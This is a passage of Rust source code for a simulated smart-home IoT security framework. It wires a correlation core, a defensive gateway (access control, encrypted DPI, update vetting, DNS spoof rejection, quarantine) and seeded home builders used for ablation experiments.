//! The assembled framework: [`XlfCore`] (aggregation + correlation +
//! policy), the [`XlfGateway`] smart-gateway node that hosts the network-
//! and device-layer mechanisms ("it could realize its full potential when
//! deployed in the network layer by extending the existing smart IoT
//! gateway", §IV-D), and the [`XlfHome`] builder that wires a complete
//! simulated home with per-mechanism switches for ablation studies.

use crate::alerts::{Alert, AlertSink, Severity};
use crate::appverify::{AppVerifier, WitnessedEvent};
use crate::auth::{DelegationProxy, LatencyModel};
use crate::bus::{EvidenceBus, EvidenceDrain};
use crate::correlation::{CorrelationConfig, CorrelationEngine, Verdict};
use crate::dataanalytics::DataAnalytics;
use crate::dpi::{default_rules, DpiSession, EncryptedDpi};
use crate::evidence::EvidenceStore;
use crate::nac::{AccessDecision, Allowlists, Nac};
use crate::netmonitor::NetMonitor;
use crate::policy::{PolicyConfig, PolicyEngine, ResponseAction};
use crate::shaping::{ShapingMode, TrafficShaper};
use crate::updatevet::{UpdateVetter, VetPolicy};
use std::borrow::Cow;
use std::cell::RefCell;
use std::collections::BTreeMap;
use std::rc::Rc;
use std::sync::{Arc, OnceLock};
use xlf_cloud::{
    parse_reading, AppSet, Capability, CloudNode, DeviceHandler, EventPolicy, SmartApp, SmartCloud,
};
use xlf_device::{DeviceConfig, DeviceKit, SensorKind, SimDevice, VulnSet};
use xlf_lwcrypto::kdf::derive_key;
use xlf_lwcrypto::searchable::{Token, Tokenizer};
use xlf_protocols::dns::{DnsRecord, RecordType};
use xlf_simnet::{Body, Context, Duration, Medium, Network, Node, NodeId, Packet, SimTime};

/// The vendor hub name every registered device is allowed to resolve
/// (the destination a DNS-poisoning attacker tries to hijack).
pub const VENDOR_DNS_NAME: &str = "hub.vendor.example";

/// Per-mechanism switches and tuning for one XLF deployment.
#[derive(Debug, Clone)]
pub struct XlfConfig {
    /// Network access control + quarantine enforcement.
    pub nac: bool,
    /// Traffic shaping mode for upstream flows.
    pub shaping: ShapingMode,
    /// Encrypted DPI on payloads crossing the gateway.
    pub dpi: bool,
    /// Rate/DFA network monitoring.
    pub netmonitor: bool,
    /// Application verification of downstream commands.
    pub appverify: bool,
    /// Telemetry analytics.
    pub dataanalytics: bool,
    /// OTA vetting at the gateway.
    pub update_vetting: bool,
    /// How long monitors learn before enforcing.
    pub learning_period: Duration,
    /// Correlation tuning (including single-layer ablations).
    pub correlation: CorrelationConfig,
    /// Response thresholds.
    pub policy: PolicyConfig,
    /// How often the Core evaluates.
    pub evaluation_interval: Duration,
    /// Evidence-bus queue capacity. `None` = unbounded (the single-home
    /// default); `Some(cap)` bounds the queue with a shed-oldest policy
    /// (see [`EvidenceBus::bounded`]) — fleet workers multiplexing many
    /// homes use this so one chatty home cannot OOM its shard. A
    /// capacity of 0 is clamped to 1.
    pub evidence_capacity: Option<usize>,
    /// Delay between a policy decision and its enforcement at the
    /// gateway. Zero when the Core runs *on* the gateway (the paper's
    /// edge deployment); a WAN round trip plus processing when the Core
    /// is hosted in the cloud (§IV-D discusses both placements).
    pub response_delay: Duration,
}

impl XlfConfig {
    /// Everything on — the full cross-layer deployment.
    pub fn full() -> Self {
        XlfConfig {
            nac: true,
            shaping: ShapingMode::Off,
            dpi: true,
            netmonitor: true,
            appverify: true,
            dataanalytics: true,
            update_vetting: true,
            learning_period: Duration::from_secs(120),
            correlation: CorrelationConfig::default(),
            policy: PolicyConfig::default(),
            evaluation_interval: Duration::from_secs(5),
            evidence_capacity: None,
            response_delay: Duration::ZERO,
        }
    }

    /// Everything off — the undefended baseline (gateway degenerates to a
    /// plain forwarding hub).
    pub fn off() -> Self {
        XlfConfig {
            nac: false,
            shaping: ShapingMode::Off,
            dpi: false,
            netmonitor: false,
            appverify: false,
            dataanalytics: false,
            update_vetting: false,
            learning_period: Duration::from_secs(120),
            correlation: CorrelationConfig::default(),
            policy: PolicyConfig {
                warn_threshold: 2.0, // unreachable
                act_threshold: 2.0,
            },
            evaluation_interval: Duration::from_secs(5),
            evidence_capacity: None,
            response_delay: Duration::ZERO,
        }
    }

    /// Bounds the evidence bus (builder-style); see
    /// [`XlfConfig::evidence_capacity`].
    pub fn with_evidence_capacity(mut self, capacity: Option<usize>) -> Self {
        self.evidence_capacity = capacity;
        self
    }
}

/// The XLF Core: evidence aggregation, correlation, alerting, policy.
pub struct XlfCore {
    /// The aggregated evidence store.
    pub store: EvidenceStore,
    drain: EvidenceDrain,
    /// Cloneable handle mechanisms report through.
    pub bus: EvidenceBus,
    /// Fusion engine.
    pub correlation: CorrelationEngine,
    /// Alert pipeline.
    pub alerts: AlertSink,
    /// Response policy.
    pub policy: PolicyEngine,
}

impl std::fmt::Debug for XlfCore {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("XlfCore")
            .field("evidence", &self.store.len())
            .field("alerts", &self.alerts.alerts().len())
            .finish_non_exhaustive()
    }
}

impl XlfCore {
    /// Creates a Core with the given tuning and an unbounded evidence
    /// bus.
    pub fn new(correlation: CorrelationConfig, policy: PolicyConfig) -> Self {
        Self::with_evidence_capacity(correlation, policy, None)
    }

    /// Creates a Core whose evidence bus is bounded to `capacity` queued
    /// observations (`None` = unbounded). On overload the bus sheds its
    /// oldest queued observation per excess report; sheds are visible
    /// through [`EvidenceBus::shed`] on [`XlfCore::bus`].
    pub fn with_evidence_capacity(
        correlation: CorrelationConfig,
        policy: PolicyConfig,
        capacity: Option<usize>,
    ) -> Self {
        let (bus, drain) = match capacity {
            Some(cap) => EvidenceBus::bounded(cap),
            None => EvidenceBus::new(),
        };
        XlfCore {
            store: EvidenceStore::new(),
            drain,
            bus,
            correlation: CorrelationEngine::new(correlation),
            alerts: AlertSink::new(),
            policy: PolicyEngine::new(policy),
        }
    }

    /// Drains pending evidence, fuses verdicts, raises alerts, and
    /// returns the response actions policy mandates.
    pub fn evaluate(&mut self, now: SimTime) -> Vec<ResponseAction> {
        self.drain.drain_into(&mut self.store);
        let mut all_actions = Vec::new();
        for verdict in self.correlation.evaluate_all(&self.store, now) {
            let (severity, actions) = self.policy.respond(&verdict, now);
            if severity > Severity::Info {
                self.alerts.raise(Alert {
                    at: now,
                    device: verdict.device.clone(),
                    severity,
                    score: verdict.score,
                    explanation: format!("layers {:?}, kinds {:?}", verdict.layers, verdict.kinds),
                });
            }
            all_actions.extend(actions);
        }
        all_actions
    }

    /// Moves at most `max` pending bus observations into the store
    /// without evaluating; returns how many moved. A fleet worker
    /// multiplexing many homes calls this between simulation slices so
    /// one chatty home cannot stall its whole shard (the remainder stays
    /// queued for the next slice or the next [`XlfCore::evaluate`]).
    pub fn drain_pending(&mut self, max: usize) -> usize {
        self.drain.drain_up_to(&mut self.store, max)
    }

    /// Fuses a verdict for one device right now (used by experiments).
    pub fn verdict_for(&mut self, device: &str, now: SimTime) -> Verdict {
        self.drain.drain_into(&mut self.store);
        self.correlation.evaluate_device(&self.store, device, now)
    }

    /// The score of [`XlfCore::verdict_for`]'s verdict, without the
    /// rest of the verdict.
    pub fn score_for(&mut self, device: &str, now: SimTime) -> f64 {
        self.drain.drain_into(&mut self.store);
        self.correlation.score_device(&self.store, device, now)
    }
}

/// A shared handle to the Core (the gateway, experiments, and harnesses
/// all hold one).
pub type CoreHandle = Rc<RefCell<XlfCore>>;

const TIMER_EVALUATE: u64 = 101;
const TIMER_FINISH_LEARNING: u64 = 102;
const TIMER_APPLY_RESPONSES: u64 = 103;
const TIMER_COVER_TRAFFIC: u64 = 104;

/// Token lifetime while the Core sees active suspicion (§IV-A1: "the XLF
/// Core determines the lifetime of the authentication tokens based on
/// the correlation results").
const SUSPICIOUS_TOKEN_LIFETIME: Duration = Duration::from_secs(300);
/// Token lifetime during calm periods.
const CALM_TOKEN_LIFETIME: Duration = Duration::from_secs(3600);

/// The XLF smart gateway: a forwarding hub with the device- and
/// network-layer security functions bolted on, reporting to the Core.
pub struct XlfGateway {
    core: CoreHandle,
    config: XlfConfig,
    cloud: NodeId,
    /// Registered device name → node. The name is shared with `names`.
    devices: BTreeMap<Rc<str>, NodeId>,
    /// Registered device node → name: how upstream packets are
    /// attributed without copying the name.
    names: BTreeMap<NodeId, Rc<str>>,
    /// Network-access control + quarantine.
    pub nac: Nac,
    shaper: TrafficShaper,
    monitor: NetMonitor,
    verifier: AppVerifier,
    analytics: DataAnalytics,
    vetter: UpdateVetter,
    /// Where per-device DPI sessions come from.
    kit: Arc<HomeKit>,
    /// Per-device DPI middleboxes, created on a device's first scan.
    dpi: BTreeMap<Rc<str>, EncryptedDpi>,
    /// Token buffer reused by every DPI scan.
    tokens: Vec<Token>,
    /// Per-rule match buffer every middlebox borrows for its scans.
    dpi_firsts: Vec<Option<usize>>,
    /// The §IV-A1 authentication delegation proxy; its token lifetime is
    /// steered by the Core's correlation results.
    pub auth_proxy: DelegationProxy,
    /// Last upstream activity (real or cover) per device, for
    /// constant-rate cover-traffic injection.
    last_upstream: BTreeMap<Rc<str>, SimTime>,
    bus: EvidenceBus,
    /// Quarantines decided but not yet enforced (cloud-hosted Core).
    pending_quarantines: Vec<String>,
    /// Packets dropped by quarantine / NAC / vetting / verification.
    pub dropped: u64,
    /// Packets forwarded.
    pub forwarded: u64,
}

impl std::fmt::Debug for XlfGateway {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("XlfGateway")
            .field("devices", &self.devices.len())
            .field("dropped", &self.dropped)
            .field("forwarded", &self.forwarded)
            .finish_non_exhaustive()
    }
}

impl XlfGateway {
    /// Creates a gateway bridging `cloud`, wired to `core`, allowlisting
    /// and vetting updates as `kit` does and inspecting each device under
    /// its DPI session from `kit`.
    pub fn new(core: CoreHandle, config: XlfConfig, cloud: NodeId, kit: Arc<HomeKit>) -> Self {
        let bus = core.borrow().bus.clone();
        let shaper = TrafficShaper::new(config.shaping, 0x5107);
        XlfGateway {
            core,
            cloud,
            devices: BTreeMap::new(),
            names: BTreeMap::new(),
            nac: Nac::with_allowlists(Arc::clone(&kit.allowlists)).with_bus(bus.clone()),
            shaper,
            monitor: NetMonitor::new().with_bus(bus.clone()),
            verifier: AppVerifier::new().with_bus(bus.clone()),
            analytics: DataAnalytics::new().with_bus(bus.clone()),
            vetter: UpdateVetter::with_policy(Arc::clone(&kit.vetting)).with_bus(bus.clone()),
            kit,
            dpi: BTreeMap::new(),
            tokens: Vec::new(),
            dpi_firsts: Vec::new(),
            auth_proxy: DelegationProxy::new(LatencyModel::default()),
            last_upstream: BTreeMap::new(),
            bus,
            pending_quarantines: Vec::new(),
            config,
            dropped: 0,
            forwarded: 0,
        }
    }

    /// Registers a device behind the gateway, allowlisting its cloud path
    /// and its vendor hub name (the only destination NAC lets it resolve).
    /// The gateway keeps `name` as given: a device's own `Rc` name is
    /// shared, not copied.
    pub fn register_device(&mut self, name: impl Into<Rc<str>>, node: NodeId) {
        let name: Rc<str> = name.into();
        if let Some(moved_from) = self.devices.insert(Rc::clone(&name), node) {
            self.names.remove(&moved_from);
        }
        self.nac.allow_node(&name, self.cloud);
        self.nac.allow_destination(&name, VENDOR_DNS_NAME);
        self.names.insert(node, name);
    }

    /// Shaping cost so far (the E-M3 overhead axis).
    pub fn shaping_cost(&self) -> crate::shaping::ShapingCost {
        self.shaper.cost
    }

    fn dpi_for(&mut self, device: &Rc<str>) -> &mut EncryptedDpi {
        let (kit, bus) = (&self.kit, &self.bus);
        self.dpi
            .entry(Rc::clone(device))
            .or_insert_with(|| EncryptedDpi::new(kit.dpi_session(device)).with_bus(bus.clone()))
    }

    fn scan_payload(&mut self, device: &Rc<str>, payload: &[u8], now: SimTime) {
        if !self.config.dpi || payload.is_empty() {
            return;
        }
        let mut tokens = std::mem::take(&mut self.tokens);
        let mut firsts = std::mem::take(&mut self.dpi_firsts);
        let middlebox = self.dpi_for(device);
        // The gateway plays the endpoint too: it tokenizes the payload
        // under the session the middlebox inspects.
        middlebox
            .session()
            .tokenizer()
            .tokenize_into(payload, &mut tokens);
        middlebox.inspect(device, &tokens, &mut firsts, now);
        self.tokens = tokens;
        self.dpi_firsts = firsts;
    }

    fn handle_upstream(&mut self, ctx: &mut Context<'_>, mut packet: Packet, device: &Rc<str>) {
        let now = ctx.now();
        if self.config.nac && self.nac.is_quarantined(device) {
            self.dropped += 1;
            return;
        }
        if self.config.netmonitor {
            self.monitor.observe_packet(device, now);
        }
        self.last_upstream.insert(Rc::clone(device), now);
        // Scan application payloads crossing the gateway.
        self.scan_payload(device, &packet.payload, now);

        // WAN-bound source routing (the DDoS path) goes through NAC.
        if let Some(target) = packet.take_final_dst() {
            if self.config.nac && self.nac.check_node(device, target, now) != AccessDecision::Allow
            {
                self.dropped += 1;
                return;
            }
            self.forwarded += 1;
            ctx.send(target, packet);
            return;
        }

        match packet.body {
            Body::Telemetry { .. } => {
                if let Some((attribute, value)) = parse_reading(&packet.payload) {
                    if self.config.appverify {
                        self.verifier.witness_event(WitnessedEvent {
                            device: Rc::clone(device),
                            attribute: attribute.clone(),
                            value: value.to_string(),
                            at: now,
                        });
                    }
                    // Seasonal baselines suit smooth physical signals;
                    // event-like attributes (motion, camera activity) are
                    // bimodal by nature and are profiled by the DFA/rate
                    // monitors instead.
                    let seasonal = matches!(&*attribute, "temperature" | "power" | "smoke");
                    if self.config.dataanalytics && seasonal {
                        if let Ok(v) = value.parse::<f64>() {
                            self.analytics.observe(device, attribute, v, now);
                        }
                    }
                }
            }
            Body::Event { from, to, .. } => {
                // The device-layer malware-detection function (§IV-A4):
                // a device attesting a compromised state is first-class
                // device-layer evidence.
                if to == "compromised" {
                    self.bus.report(crate::evidence::Evidence::new(
                        now,
                        crate::evidence::Layer::Device,
                        device,
                        crate::evidence::EvidenceKind::DfaViolation,
                        1.0,
                        "device reported transition into a compromised state",
                    ));
                }
                if self.config.netmonitor {
                    self.monitor
                        .observe_transition(device, from, "cmd", to, now);
                }
                if self.config.appverify {
                    self.verifier.witness_event(WitnessedEvent {
                        device: Rc::clone(device),
                        attribute: Cow::Borrowed("state"),
                        value: to.to_string(),
                        at: now,
                    });
                }
            }
            _ => {}
        }

        // Forward upstream with shaping.
        let mut fwd = packet;
        let decision = self.shaper.shape(fwd.wire_size);
        fwd.pad_to(decision.padded_size);
        self.forwarded += 1;
        ctx.send_after(self.cloud, fwd, decision.delay);
    }

    fn handle_downstream(&mut self, ctx: &mut Context<'_>, packet: Packet) {
        let now = ctx.now();
        let addressee = packet.body.addressee();
        let Some((device, &node)) = addressee.and_then(|name| self.devices.get_key_value(&**name))
        else {
            return;
        };
        let device = Rc::clone(device);
        if self.config.nac && self.nac.is_quarantined(&device) && packet.kind() != "ota" {
            self.dropped += 1;
            return;
        }
        match &packet.body {
            Body::Cmd { command, .. } => {
                self.scan_payload(&device, &packet.payload, now);
                if self.config.appverify && !self.verifier.check_command(&device, command, now) {
                    self.dropped += 1;
                    return;
                }
                self.forwarded += 1;
                ctx.send(node, packet);
            }
            Body::Ota { .. } => {
                if self.config.update_vetting {
                    if self.vetter.vet(&device, &packet.payload, now).is_err() {
                        self.dropped += 1;
                        return;
                    }
                } else {
                    self.scan_payload(&device, &packet.payload, now);
                }
                self.forwarded += 1;
                ctx.send(node, packet);
            }
            Body::Login { .. } => {
                self.scan_payload(&device, &packet.payload, now);
                self.forwarded += 1;
                ctx.send(node, packet);
            }
            Body::DnsResponse {
                name, value, txid, ..
            } => {
                // A WAN-side DNS answer claiming to resolve a name for a
                // device. NAC's hardened resolver adjudicates it (txid +
                // DNSSEC checks); rejected spoofs are dropped and show up
                // as `DnsBlocked` evidence. Without NAC the gateway
                // blindly forwards — the unprotected baseline.
                if !self.config.nac {
                    self.forwarded += 1;
                    ctx.send(node, packet);
                    return;
                }
                let record = DnsRecord::new(name, RecordType::A, value, 300);
                match self.nac.resolve_for(&device, name, (record, *txid), now) {
                    Ok(_) => {
                        self.forwarded += 1;
                        ctx.send(node, packet);
                    }
                    Err(_) => {
                        self.dropped += 1;
                    }
                }
            }
            _ => {
                self.forwarded += 1;
                ctx.send(node, packet);
            }
        }
    }
}

impl Node for XlfGateway {
    fn on_start(&mut self, ctx: &mut Context<'_>) {
        ctx.set_timer(self.config.evaluation_interval, TIMER_EVALUATE);
        ctx.set_timer(self.config.learning_period, TIMER_FINISH_LEARNING);
        if let ShapingMode::ConstantRate { cover_interval, .. } = self.config.shaping {
            ctx.set_timer(cover_interval, TIMER_COVER_TRAFFIC);
        }
    }

    fn on_timer(&mut self, ctx: &mut Context<'_>, tag: u64) {
        match tag {
            TIMER_EVALUATE => {
                let actions = self.core.borrow_mut().evaluate(ctx.now());
                let actions_present = !actions.is_empty();
                let mut decided = Vec::new();
                for action in actions {
                    match action {
                        ResponseAction::Quarantine { device } => decided.push(device),
                        ResponseAction::RevokeTokens { .. }
                        | ResponseAction::ForceFirmwareRollback { .. }
                        | ResponseAction::NotifyUser { .. } => {
                            // Delivered to the cloud/user out of band; the
                            // alert sink records the notification.
                        }
                    }
                }
                // §IV-A1: correlation results steer auth-token lifetimes —
                // any active response shortens them, calm restores them.
                if actions_present {
                    self.auth_proxy
                        .set_token_lifetime(SUSPICIOUS_TOKEN_LIFETIME);
                } else {
                    self.auth_proxy.set_token_lifetime(CALM_TOKEN_LIFETIME);
                }
                if self.config.nac && !decided.is_empty() {
                    if self.config.response_delay == Duration::ZERO {
                        for device in decided {
                            self.nac.quarantine(&device);
                        }
                    } else {
                        // Cloud-hosted Core: the decision travels back to
                        // the gateway over the WAN before it can bite.
                        self.pending_quarantines.extend(decided);
                        ctx.set_timer(self.config.response_delay, TIMER_APPLY_RESPONSES);
                    }
                }
                ctx.set_timer(self.config.evaluation_interval, TIMER_EVALUATE);
            }
            TIMER_APPLY_RESPONSES => {
                for device in std::mem::take(&mut self.pending_quarantines) {
                    self.nac.quarantine(&device);
                }
            }
            TIMER_COVER_TRAFFIC => {
                let ShapingMode::ConstantRate { cover_interval, .. } = self.config.shaping else {
                    return;
                };
                let now = ctx.now();
                let devices: Vec<Rc<str>> = self.devices.keys().cloned().collect();
                for device in devices {
                    if self.config.nac && self.nac.is_quarantined(&device) {
                        continue;
                    }
                    let last = self
                        .last_upstream
                        .get(&*device)
                        .copied()
                        .unwrap_or(SimTime::ZERO);
                    let covers = self.shaper.cover_packets_for(now.since(last));
                    if !covers.is_empty() {
                        self.last_upstream.insert(Rc::clone(&device), now);
                    }
                    for size in covers {
                        let mut pkt = Packet::new(ctx.id(), self.cloud, "cover", Vec::new())
                            .with_protocol(xlf_simnet::Protocol::Tls);
                        pkt.pad_to(size);
                        self.forwarded += 1;
                        ctx.send(self.cloud, pkt);
                    }
                }
                ctx.set_timer(cover_interval, TIMER_COVER_TRAFFIC);
            }
            TIMER_FINISH_LEARNING => {
                self.monitor.finish_learning();
                self.verifier.finish_learning();
            }
            _ => {}
        }
    }

    fn on_packet(&mut self, ctx: &mut Context<'_>, packet: Packet) {
        // Upstream = the packet came from a registered device node.
        if let Some(device) = self.names.get(&packet.src).cloned() {
            self.handle_upstream(ctx, packet, &device);
        } else {
            self.handle_downstream(ctx, packet);
        }
    }
}

/// Descriptor of one device in a built home.
#[derive(Debug, Clone, PartialEq)]
pub struct HomeDevice {
    /// Device name.
    pub name: String,
    /// Sensor modality.
    pub sensor: SensorKind,
    /// Vulnerability profile.
    pub vulns: VulnSet,
    /// Telemetry period.
    pub telemetry_period: Duration,
    /// Cloud capabilities registered for it.
    pub capabilities: Vec<xlf_cloud::Capability>,
}

impl HomeDevice {
    /// A hardened device with sane defaults.
    pub fn new(name: &str, sensor: SensorKind) -> Self {
        let capability = match sensor {
            SensorKind::Temperature => xlf_cloud::Capability::TemperatureMeasurement,
            SensorKind::Motion => xlf_cloud::Capability::MotionSensor,
            SensorKind::Smoke => xlf_cloud::Capability::SmokeDetector,
            SensorKind::Power => xlf_cloud::Capability::EnergyMeter,
            SensorKind::Camera => xlf_cloud::Capability::VideoStream,
        };
        HomeDevice {
            name: name.to_string(),
            sensor,
            vulns: VulnSet::hardened(),
            telemetry_period: Duration::from_secs(30),
            capabilities: vec![capability, xlf_cloud::Capability::Switch],
        }
    }

    /// Replaces the vulnerability profile (builder-style).
    pub fn with_vulns(mut self, vulns: VulnSet) -> Self {
        self.vulns = vulns;
        self
    }

    /// Overrides the telemetry period (builder-style).
    pub fn with_telemetry_period(mut self, period: Duration) -> Self {
        self.telemetry_period = period;
        self
    }
}

/// The gateway's master secret: a device's DPI session secret is
/// `derive_key(HOME_MASTER_SECRET, "dpi/{device}")`.
const HOME_MASTER_SECRET: &[u8] = b"home master secret";

/// The cloud's hub secret, which a device's event key is derived from.
const HUB_SECRET: &[u8] = b"hub secret";

/// The cloud's raw node id in every built home.
const CLOUD_RAW: u32 = 0;

/// The gateway's raw node id in every built home (the cloud is 0, the
/// devices follow); a kit's device configurations address it.
const GATEWAY_RAW: u32 = 1;

/// Everything a home of one device list starts with that does not
/// depend on the home's seed: each device's [`DeviceKit`] (signed
/// firmware slot, credentials, sealed store) and cloud capability
/// table, the gateway's NAC allowlists and update-vetting policy, the
/// cloud's hub secret and installed apps ([`HomeKit::with_apps`]), and
/// the gateway's per-device DPI sessions. It is derived once, and
/// every home built from the kit ([`XlfHome::from_kit`]) holds each
/// piece by reference, copying one only on its own first write to it
/// (a brute-forced login, an installed image, a new allowlist entry or
/// app), so what one home does never reaches a sibling. What depends on
/// the home's seed (the network, its RNG, the Core and every table a
/// running home fills) stays per home.
#[derive(Debug)]
pub struct HomeKit {
    devices: Vec<KitDevice>,
    hub_secret: Arc<[u8]>,
    allowlists: Arc<Allowlists>,
    vetting: Arc<VetPolicy>,
    apps: AppSet,
}

#[derive(Debug)]
struct KitDevice {
    spec: HomeDevice,
    kit: DeviceKit,
    capabilities: Arc<[Capability]>,
    /// Bound by the first home of the kit that scans the device.
    dpi: OnceLock<Arc<DpiSession>>,
}

impl HomeKit {
    /// Derives the kit of `devices`, with no apps installed. DPI
    /// sessions are left for the first home that needs each to bind,
    /// once per kit.
    pub fn derive(devices: &[HomeDevice]) -> Self {
        let gateway = NodeId::from_raw(GATEWAY_RAW);
        let kits = DeviceKit::derive_all(devices.iter().map(|d| {
            DeviceConfig::new(&d.name, d.sensor, gateway)
                .with_vulns(d.vulns.clone())
                .with_telemetry_period(d.telemetry_period)
        }));
        let devices: Vec<KitDevice> = devices
            .iter()
            .zip(kits)
            .map(|(d, kit)| KitDevice {
                spec: d.clone(),
                kit,
                capabilities: Arc::from(d.capabilities.as_slice()),
                dpi: OnceLock::new(),
            })
            .collect();
        // Each device may reach the cloud and resolve its vendor hub.
        let mut nac = Nac::new();
        for d in &devices {
            nac.allow_node(&d.spec.name, NodeId::from_raw(CLOUD_RAW));
            nac.allow_destination(&d.spec.name, VENDOR_DNS_NAME);
        }
        let mut vetter = UpdateVetter::new(&crate::dpi::xlf_attacks_signatures());
        vetter.trust_vendor("acme", b"acme vendor secret");
        HomeKit {
            devices,
            hub_secret: Arc::from(HUB_SECRET),
            allowlists: Arc::clone(nac.allowlists()),
            vetting: Arc::clone(vetter.policy()),
            apps: AppSet::default(),
        }
    }

    /// Installs `apps` in every home's cloud (builder-style).
    pub fn with_apps(mut self, apps: impl IntoIterator<Item = SmartApp>) -> Self {
        self.apps = AppSet::new(apps);
        self
    }

    /// Whether the kit was derived from exactly `devices`.
    pub fn is_for(&self, devices: &[HomeDevice]) -> bool {
        self.devices.len() == devices.len()
            && self.devices.iter().zip(devices).all(|(k, d)| k.spec == *d)
    }

    /// The DPI session of `device`: for a device of the kit, shared and
    /// bound at most once per kit; for any other name, bound afresh.
    fn dpi_session(&self, device: &str) -> Arc<DpiSession> {
        let bind = || {
            let secret = derive_key(HOME_MASTER_SECRET, &format!("dpi/{device}"), 16)
                .expect("valid kdf params");
            let tokenizer = Tokenizer::new(&secret).expect("non-empty session secret");
            Arc::new(DpiSession::bind(&default_rules(), tokenizer))
        };
        match self.devices.iter().find(|d| d.spec.name == device) {
            Some(d) => Arc::clone(d.dpi.get_or_init(bind)),
            None => bind(),
        }
    }
}

/// A fully wired simulated home with XLF deployed.
pub struct XlfHome {
    /// The simulation.
    pub net: Network,
    /// Shared Core handle.
    pub core: CoreHandle,
    /// Cloud node id.
    pub cloud: NodeId,
    /// Gateway node id.
    pub gateway: NodeId,
    /// Device name (each device's shared name) → node id.
    pub devices: BTreeMap<Rc<str>, NodeId>,
}

impl std::fmt::Debug for XlfHome {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("XlfHome")
            .field("devices", &self.devices.len())
            .finish_non_exhaustive()
    }
}

impl XlfHome {
    /// Builds a home: cloud (id 0), gateway (id 1), then one node per
    /// device, all linked (devices over ZigBee/WiFi by modality, gateway
    /// to cloud over WAN). Derives the devices' kit for this home alone;
    /// homes of one device list share a kit through
    /// [`XlfHome::from_kit`].
    pub fn build(seed: u64, config: XlfConfig, home_devices: &[HomeDevice]) -> XlfHome {
        Self::from_kit(seed, config, &Arc::new(HomeKit::derive(home_devices)))
    }

    /// Builds a home of the kit's devices, as [`XlfHome::build`] does,
    /// holding what the kit holds by reference.
    pub fn from_kit(seed: u64, config: XlfConfig, kit: &Arc<HomeKit>) -> XlfHome {
        // The cloud, the gateway and one node per device, each device
        // linked to the gateway and the gateway to the cloud.
        let nodes = kit.devices.len() + 2;
        let mut net = Network::with_capacity(seed, nodes, nodes - 1);
        let core: CoreHandle = Rc::new(RefCell::new(XlfCore::with_evidence_capacity(
            config.correlation.clone(),
            config.policy.clone(),
            config.evidence_capacity,
        )));

        let cloud_id = NodeId::from_raw(CLOUD_RAW);
        let gateway_id = NodeId::from_raw(GATEWAY_RAW);

        // Each device's name is made once, by the device, and shared
        // with the cloud, the gateway and every packet that names the
        // device.
        let sims: Vec<SimDevice> = kit
            .devices
            .iter()
            .map(|d| SimDevice::from_kit(&d.kit))
            .collect();

        // The cloud is deliberately built with the *flawed* 2016-era
        // posture the paper analyzes (permissive events and permissions):
        // XLF's thesis is that the cross-layer framework protects the home
        // even when the service layer itself is gullible.
        let mut cloud = SmartCloud::with_apps(
            EventPolicy::permissive(),
            xlf_cloud::smartapp::PermissionModel::Permissive,
            Arc::clone(&kit.hub_secret),
            &kit.apps,
        );
        for (d, sim) in kit.devices.iter().zip(&sims) {
            let capabilities = Arc::clone(&d.capabilities);
            cloud.register_device(DeviceHandler::shared(Rc::clone(sim.name()), capabilities));
        }
        let actual_cloud = net.add_node(Box::new(CloudNode::new(cloud, gateway_id)));
        assert_eq!(actual_cloud, cloud_id);

        let mut gateway = XlfGateway::new(core.clone(), config, cloud_id, Arc::clone(kit));
        let first_device_raw = GATEWAY_RAW + 1;
        for (i, sim) in sims.iter().enumerate() {
            let id = NodeId::from_raw(first_device_raw + i as u32);
            gateway.register_device(Rc::clone(sim.name()), id);
        }
        let actual_gateway = net.add_node(Box::new(gateway));
        assert_eq!(actual_gateway, gateway_id);

        let mut devices = BTreeMap::new();
        for (d, sim) in kit.devices.iter().zip(sims) {
            let name = Rc::clone(sim.name());
            let id = net.add_node(Box::new(sim));
            let medium = match d.spec.sensor {
                SensorKind::Camera => Medium::Wifi,
                _ => Medium::Zigbee,
            };
            net.connect(gateway_id, id, medium.link().with_loss(0.0));
            devices.insert(name, id);
        }
        net.connect(gateway_id, cloud_id, Medium::Wan.link().with_loss(0.0));

        XlfHome {
            net,
            core,
            cloud: cloud_id,
            gateway: gateway_id,
            devices,
        }
    }

    /// Convenience: the gateway node, downcast.
    pub fn gateway_ref(&self) -> &XlfGateway {
        self.net
            .node_as::<XlfGateway>(self.gateway)
            .expect("gateway node exists")
    }

    /// Convenience: a device node, downcast.
    pub fn device_ref(&self, name: &str) -> &SimDevice {
        let id = self.devices[name];
        self.net.node_as::<SimDevice>(id).expect("device exists")
    }

    /// Wraps this home in a reusable [`HomeRunner`] (installs the traffic
    /// tap the behaviour features come from).
    pub fn into_runner(self) -> HomeRunner {
        HomeRunner::new(self)
    }
}

/// Deterministic, thread-portable summary of one finished home run: what
/// a higher aggregation tier (the fleet Core) consumes. Everything here
/// is `Send + Clone` and derived only from the simulation state, so the
/// same seed always yields the same report.
#[derive(Debug, Clone, PartialEq)]
pub struct HomeReport {
    /// The seed the home was built from.
    pub seed: u64,
    /// Evidence records aggregated by this home's Core.
    pub evidence_total: usize,
    /// Observations lost for any reason: drain end gone when they were
    /// reported, plus observations shed under overload (always `>=`
    /// [`HomeReport::evidence_shed`]).
    pub evidence_dropped: u64,
    /// Observations shed (evicted oldest-first) by a bounded evidence
    /// bus under overload — the overload subset of
    /// [`HomeReport::evidence_dropped`]. 0 on an unbounded bus.
    pub evidence_shed: u64,
    /// Evidence counts per layer: `[device, network, service]`.
    pub evidence_by_layer: [usize; 3],
    /// Warning-or-higher alerts raised.
    pub warning_alerts: usize,
    /// Critical alerts raised.
    pub critical_alerts: usize,
    /// Devices quarantined by NAC at the end of the run.
    pub quarantined: Vec<String>,
    /// The most suspicious device and its fused verdict score.
    pub top_device: String,
    /// Fused suspicion score of `top_device` in `[0, 1]`.
    pub top_score: f64,
    /// Packets the gateway forwarded.
    pub forwarded: u64,
    /// Packets the gateway dropped (quarantine / NAC / vetting).
    pub dropped_packets: u64,
    /// Behaviour feature vector of the home's traffic trace (see
    /// [`xlf_analytics::features::window_features`]).
    pub features: Vec<f64>,
}

/// Cumulative, **side-effect-free** counters read from a live home
/// mid-run. Unlike [`HomeRunner::report`] this never drains the evidence
/// bus and never fuses verdicts, so probing between simulation slices
/// cannot perturb bounded-bus shed patterns or correlation state — a
/// probed (streamed) run stays byte-identical to an unprobed (batch) run
/// of the same home. Windowed deltas are two probes subtracted.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct HomeProbe {
    /// Evidence records aggregated into the Core's store so far.
